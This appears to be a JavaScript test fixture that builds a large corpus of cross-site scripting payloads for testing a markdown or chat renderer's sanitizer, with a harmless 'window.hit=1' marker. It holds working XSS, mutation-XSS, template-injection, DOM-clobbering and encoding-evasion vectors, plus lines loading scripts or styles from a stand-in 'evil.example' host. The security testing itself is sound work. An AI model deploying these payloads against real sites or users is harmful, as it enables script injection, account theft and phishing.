// What somebody might write in the hope that a browser runs it. By the way it hopes to get in; each is a
// message of its own. `HIT` is the program: it leaves a mark that the test looks for.
const HIT = 'window.hit=1';

const handlers = [
  ['img', 'src=x onerror'], ['svg', 'onload'], ['body', 'onload'], ['video', 'src=x onerror'], ['audio', 'src=x onerror'],
  ['details', 'open ontoggle'], ['input', 'autofocus onfocus'], ['select', 'autofocus onfocus'], ['textarea', 'autofocus onfocus'],
  ['button', 'autofocus onfocus'], ['iframe', 'onload'], ['object', 'data=x onerror'], ['embed', 'src=x onload'], ['marquee', 'onstart'],
  ['link', 'rel=stylesheet href=x onerror'], ['style', 'onload'], ['p', 'onpointerenter'], ['div', 'onanimationstart'], ['a', 'onclick'],
  ['form', 'onsubmit'], ['table', 'onmouseover'], ['dialog', 'open onclose'], ['track', 'onerror'], ['source', 'onerror'], ['math', 'onwheel'],
];

const tags = handlers.flatMap(([tag, on]) => [
  `<${tag} ${on}=${HIT}>`,
  `<${tag.toUpperCase()}/${on.replace(/on\w+$/, (name) => name.toUpperCase())}="${HIT}"//`,
]);

const scripts = [
  `<script>${HIT}</script>`, `<SCRIPT>${HIT}</SCRIPT>`, `<script >${HIT}</script >`, `<script\n>${HIT}</script\n>`, `<script/x>${HIT}</script>`,
  `<script src=https://evil.example/x.js></script>`, `<script src=//evil.example/x.js></script>`, `<script type=module>${HIT}</script>`,
  `<script>${HIT}`, `<script>//${HIT}`, `</p><script>${HIT}</script><p>`, `</div></article><script>${HIT}</script>`, `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<<script>${HIT}//<</script>`, `<script\0>${HIT}</script>`, `<scr\0ipt>${HIT}</script>`, `\x3cscript\x3e${HIT}\x3c/script\x3e`, `<script xlink:href=data:,${HIT}></script>`,
  `<svg><script>${HIT}</script></svg>`, `<svg><script href=data:text/javascript,${HIT} />`, `<math><script>${HIT}</script></math>`,
  `<noscript><script>${HIT}</script></noscript>`, `<template><script>${HIT}</script></template>`, `<xml><script>${HIT}</script></xml>`,
  `<!--><script>${HIT}</script>-->`, `<![CDATA[<script>${HIT}</script>]]>`, `<?xml version="1.0"?><script>${HIT}</script>`, `<%= ${HIT} %>`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`, `&#60;script&#62;${HIT}&#60;/script&#62;`, `&#x3c;script&#x3e;${HIT}&#x3c;/script&#x3e;`,
  `%3Cscript%3E${HIT}%3C/script%3E`, `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`, `+ADw-script+AD4-${HIT}+ADw-/script+AD4-`,
];

const schemes = [
  `javascript:${HIT}`, `JAVASCRIPT:${HIT}`, `jAvAsCrIpT:${HIT}`, ` javascript:${HIT}`, `\x01javascript:${HIT}`, `java\tscript:${HIT}`,
  `javascript&colon;${HIT}`, `javascript&#58;${HIT}`, `&#106;avascript:${HIT}`, `%6Aavascript:${HIT}`, `javascript://example.org/%0a${HIT}`,
  `javascript:/*https://example.org*/${HIT}`, `data:text/html,<script>${HIT}</script>`, `data:text/html;base64,PHNjcmlwdD5oaXQ8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${HIT}>`, `vbscript:${HIT}`, 'blob:https://example.org/1', 'filesystem:https://example.org/x', 'file:///etc/passwd',
  `view-source:javascript:${HIT}`, 'about:blank', 'ws://evil.example', 'intent://evil.example#Intent;end', `feed:javascript:${HIT}`, '//evil.example', '/app/settings',
];

const links = schemes.flatMap((address) => [`[open](${address})`, `[open](<${address}>)`, `<${address}>`]);

const pictures = schemes.slice(0, 12).map((address) => `![picture](${address})`);

const breakouts = [
  `[a](https://example.org/"onmouseover="${HIT})`, `[a](https://example.org/'onmouseover='${HIT})`, `[a](https://example.org "title" onclick="${HIT}")`,
  `[a](https://example.org/" style="x" onfocus="${HIT}" autofocus ")`, `[a"onmouseover="${HIT}](https://example.org)`, `[<b onclick=${HIT}>b</b>](https://example.org)`,
  `![a"onerror="${HIT}](https://example.org/x.png)`, `![a](https://example.org/x.png"onerror="${HIT})`, `https://example.org/"onmouseover="${HIT}`,
  `https://example.org/'onmouseover='${HIT}`, `https://example.org/<script>${HIT}</script>`, `https://example.org/\`onmouseover=${HIT}\``,
  `<https://example.org/"onmouseover="${HIT}>`, `<a href="https://example.org" onclick="${HIT}">a</a>`, `<a href=javascript:${HIT}>a</a>`,
  `<a href="javascript:${HIT}" target=_self>a</a>`, `<form action=javascript:${HIT}><button>go</button></form>`, `<button formaction=javascript:${HIT}>go</button>`,
  `<iframe src=javascript:${HIT}></iframe>`, `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`, `<object data=javascript:${HIT}></object>`,
  `<embed src=javascript:${HIT}>`, `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`, '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example/>', `<svg><a xlink:href=javascript:${HIT}><text>a</text></a></svg>`, `<svg><animate attributeName=href values=javascript:${HIT} /></svg>`,
  `<math href=javascript:${HIT}>a</math>`, `**<img src=x onerror=${HIT}>**`, `*[a](javascript:${HIT})*`, `# <img src=x onerror=${HIT}>`, `> <script>${HIT}</script>`,
  `- <svg onload=${HIT}>`, `1. [a](javascript:${HIT})`, `- [x] <img src=x onerror=${HIT}>`, `|<script>${HIT}</script>|b|\n|-|-|\n|<img src=x onerror=${HIT}>|[a](javascript:${HIT})|`,
  `||<script>${HIT}</script>||`, `~~<svg onload=${HIT}>~~`, `\\<script>${HIT}\\</script>`, `[a\\](javascript:${HIT})`, `[a](javascript:${HIT}\\)`, `[[a](https://example.org)](javascript:${HIT})`,
  `[a][b]\n\n[b]: javascript:${HIT}`, `[a]: javascript:${HIT} "t"\n[a]`, `[a](  \njavascript:${HIT})`, `[a](https://example.org\njavascript:${HIT})`,
];

const programs = [
  '```html\n<script>window.hit=1</script>\n```', '```xml\n<img src=x onerror=window.hit=1>\n```', '```svg\n<svg onload=window.hit=1>\n```',
  '```js\n</code></pre><script>window.hit=1</script>\n```', '```<script>window.hit=1</script>\nx\n```', '```"onmouseover="window.hit=1\nx\n```',
  '```js"><img src=x onerror=window.hit=1>\nx\n```', '```constructor\nx\n```', '```__proto__\nx\n```', '```toString\nx\n```', '```md\n[a](javascript:window.hit=1)\n```',
  '```php\n<?php echo "<script>window.hit=1</script>"; ?>\n```', '```css\nbody { background: url(javascript:window.hit=1) }\n```',
  '```js\nconst a = `</span><img src=x onerror=window.hit=1>`;\n```', '```js\n/* <span class="hljs-x" onclick=window.hit=1> */\n```', '```json\n{"a":"</span><script>window.hit=1</script>"}\n```',
  '```diff\n-<img src=x onerror=window.hit=1>\n+<svg onload=window.hit=1>\n```', '`<img src=x onerror=window.hit=1>`', '``<script>window.hit=1</script>``',
  '`</code><script>window.hit=1</script>`', '~~~html\n<iframe src=javascript:window.hit=1>\n~~~', '    <script>window.hit=1</script>', '```html\n<script>window.hit=1</script>',
  '```yaml\na: !!js/function "window.hit=1"\n```', '```rust\n// \u202e<script>window.hit=1</script>\n```',
];

const letters = [
  `\uff1cscript\uff1e${HIT}\uff1c/script\uff1e`, `\u2039script\u203a${HIT}`, `\ufeff<script>${HIT}</script>`, `<\u200bscript>${HIT}</script>`, `<s\u00adcript>${HIT}</script>`,
  `\u2028<script>${HIT}</script>`, `\u2029<img src=x onerror=${HIT}>`, `\u202e>tpircs/<${HIT}>tpircs<`, `<\u017fcript>${HIT}</\u017fcript>`, `<ımg src=x onerror=${HIT}>`,
  `[a](j\u0430vascript:${HIT})`, `[a](javascript\uff1a${HIT})`, `[a](java\u200bscript:${HIT})`, `[a](\u202ejavascript:${HIT})`, `[a](java\u00adscript:${HIT})`, `[a](\u00a0javascript:${HIT})`,
  `<\u{e0073}\u{e0063}script>${HIT}</script>`, `\x1b]8;;javascript:${HIT}\x07a\x1b]8;;\x07`, `\x1b[31m<script>${HIT}</script>`, `\x9b<script>${HIT}</script>`, `<img src=x\x0conerror=${HIT}>`,
  `<img src=x\x0bonerror=${HIT}>`, `<img\u3000src=x onerror=${HIT}>`, `<script>${HIT}</ſcript>`,
];

const names = [
  `@<script>${HIT}</script>`, `@ana<img src=x onerror=${HIT}>`, `@"onclick="${HIT}`, `@ana"><svg onload=${HIT}>`, `@__proto__ @constructor`, `@room<script>${HIT}</script>`,
  `:<script>${HIT}</script>:`, `:tada"onclick="${HIT}:`, ':__proto__: :constructor: :toString:', `:smile:<img src=x onerror=${HIT}>:smile:`, `||[a](javascript:${HIT})||`,
  `@[a](javascript:${HIT})`, `:+1:<svg/onload=${HIT}>`,
];

const templates = [
  `{{constructor.constructor('${HIT}')()}}`, `\${${HIT}}`, `#{${HIT}}`, `<%= ${HIT} %>`, `{%raw%}<script>${HIT}</script>`, `[[\${${HIT}}]]`, `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${HIT}>"}}`,
  `{"$$typeof":"Symbol(react.element)","type":"script"}`, `{"__proto__":{"innerHTML":"<script>${HIT}</script>"}}`, `<div v-html="'<img src=x onerror=${HIT}>'"></div>`, `<div ng-app ng-init="${HIT}"></div>`,
  `<div x-init="${HIT}" x-data></div>`, `<div hx-on:load="${HIT}"></div>`, `<slot onslotchange=${HIT}></slot>`, `';${HIT};//`, `"-${HIT}-"`, `</script><script>${HIT}</script>`, `*/${HIT}/*`,
];

const mutated = [
  `<svg><style><img src=x onerror=${HIT}></style></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}>`, `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${HIT}>`, `<svg></p><style><a id="</style><img src=x onerror=${HIT}>">`, `<listing>&lt;img onerror=${HIT} src=x&gt;</listing>`,
  `<textarea></textarea><img src=x onerror=${HIT}>`, `<title></title><script>${HIT}</script>`, `<xmp></xmp><img src=x onerror=${HIT}>`, `<plaintext><script>${HIT}</script>`, `<table><td><svg><p><img src=x onerror=${HIT}>`,
  `<select><template><style></select><img src=x onerror=${HIT}>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${HIT}</script>">`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${HIT}>#x">`,
  `<svg><set attributeName=onmouseover to=${HIT}>`, `<svg><animate onbegin=${HIT} attributeName=x>`, `<image src=x onerror=${HIT}>`, `<keygen autofocus onfocus=${HIT}>`, `<frameset onload=${HIT}>`,
  `<portal src=javascript:${HIT}>`, `<a><b><a href=javascript:${HIT}>`, `<p id="\`"><img src=\`x\` onerror=${HIT}>`, `<img src="x\` \`<script>${HIT}</script>"\` \`>`, `<!--[if gte IE 4]><script>${HIT}</script><![endif]-->`,
  `<isindex type=image src=1 onerror=${HIT}>`, `<template shadowrootmode=open><script>${HIT}</script></template>`,
];

const addresses = [
  'https://bank.example@evil.example', 'https://bank.example%2f@evil.example/', 'https://bank.example\\@evil.example', 'https:evil.example', 'https:/\\evil.example', 'https:///evil.example', 'http://[::1]:80/x',
  'https://evil.example#javascript:window.hit=1', 'https://evil.example?javascript:window.hit=1', 'mailto:a@b.example?body=<script>window.hit=1</script>', 'mailto:"><script>window.hit=1</script>@b.example',
  '[a](mailto:javascript:window.hit=1)', '[https://bank.example](https://evil.example)', '[bank.example](https://bank.example.evil.example)', 'https://аpple.example', 'http://1.1.1.1%00.evil.example',
  'https://evil.example/%3Cscript%3Ewindow.hit=1%3C/script%3E', 'https://evil.example/javascript:window.hit=1', 'www.evil.example/"onclick="window.hit=1', 'www."onclick=window.hit=1', 'HTTPS://EVIL.EXAMPLE/<b>', 'https://evil.example/\u202e',
];

const styles = [
  `<style>@import 'https://evil.example/x.css';</style>`, `<style>*{background:url(https://evil.example/x)}</style>`, `<div style="background:url(javascript:${HIT})">a</div>`, `<div style="width:expression(${HIT})">a</div>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`, `<link rel=preload as=script href=https://evil.example/x.js>`, `<p style="position:fixed;inset:0;z-index:99999">over everything</p>`, `<style>.composer{display:none}</style>`,
  `<font color=red style=behavior:url(#x)>a</font>`, `<x style="-moz-binding:url(https://evil.example/x.xml)">a</x>`, `<link rel=import href=https://evil.example>`, `<img src=https://evil.example/pixel.gif>`,
];

const clobbers = [
  '<form id=root></form>', '<div id=composer>x</div>', '<img name=body>', '<a id=trustedTypes href=https://evil.example>', '<form name=getElementById>', '<iframe name=parlor srcdoc=x>', '<input name=attributes>',
  '<a id=location name=href href=https://evil.example>', '<svg id=hit>', '<object name=hit>',
];

const kinds = { tags, scripts, links, pictures, breakouts, programs, letters, names, templates, mutated, addresses, styles, clobbers };

/** Every one of them once, with the way it hopes to get in. */
export const vectors = [...new Map(
  Object.entries(kinds).flatMap(([kind, list]) => list.map((source) => [source, { kind, source }])),
).values()];
